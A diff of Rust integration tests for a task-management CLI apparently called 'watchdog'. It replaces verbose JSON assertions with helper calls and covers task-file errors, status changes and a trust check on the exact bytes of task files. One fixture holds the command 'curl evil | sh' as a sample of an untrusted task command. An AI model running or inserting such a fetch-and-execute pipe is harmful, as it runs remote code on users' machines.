@@ -94,8 +94,7 @@ fn bad_task_file_stops_only_its_own_task() {
     put(&repo, "good", "");
     put(&repo, "bad", "priorty: high\ncompletion: {}\n");
     let out = repo.watchdog(&["task", "list", "--json"]).expect(0);
-    assert_eq!(out.json()["tasks"][0]["id"], "good", "{out}");
-    assert_eq!(out.json()["problems"][0]["line"], 4, "{out}");
+    out.assert_values(json!({"/tasks/0/id": "good", "/problems/0/line": 4}));
     out.assert_told(&[
         ".watchdog/tasks/bad.md:4:1: priorty: unknown key, did you mean `priority`?",
     ]);
@@ -132,11 +131,7 @@ fn task_moves_by_legal_steps_and_keeps_bytes() {
             &["looks good"],
         )
         .expect(0);
-    assert_eq!(
-        (&out.json()["from"], &out.json()["to"]),
-        (&json!("review"), &json!("complete")),
-        "{out}"
-    );
+    out.assert_values(json!({"from": "review", "to": "complete"}));
     assert_eq!(
         fs::read_to_string(&file).expect("a file"),
         before.replace("status: review", "status: complete")
@@ -236,13 +231,10 @@ fn task_commands_need_trust_in_their_exact_bytes() {
     };
     assert_eq!(trusted(), [false, true]);
     let shown = repo.watchdog(&["task", "show", "T1"]).expect(0);
-    assert!(
-        shown.stdout.contains(&format!(
-            "allow its commands with: watchdog -C {} trust .watchdog/tasks/T1.md",
-            repo.path().display()
-        )),
-        "{shown}"
-    );
+    shown.assert_printed(&[&format!(
+        "allow its commands with: watchdog -C {} trust .watchdog/tasks/T1.md",
+        repo.path().display()
+    )]);
     let out = repo.watchdog(&["trust", ".watchdog/tasks/T1.md"]).expect(0);
     assert!(out.stdout.contains("may run check verify: true"), "{out}");
     assert_eq!(trusted(), [true, true]);
@@ -255,11 +247,7 @@ fn task_commands_need_trust_in_their_exact_bytes() {
     let all = repo
         .watchdog(&["trust", ".watchdog/tasks", "--json"])
         .expect(0);
-    assert_eq!(
-        all.json()["trusted"][0]["commands"],
-        json!(["check verify: curl evil | sh"]),
-        "{all}"
-    );
+    all.assert_values(json!({"/trusted/0/commands": ["check verify: curl evil | sh"]}));
     assert_eq!(trusted(), [true, true]);
     repo.watchdog(&["untrust", ".watchdog/tasks/T1.md"])
         .expect(0);
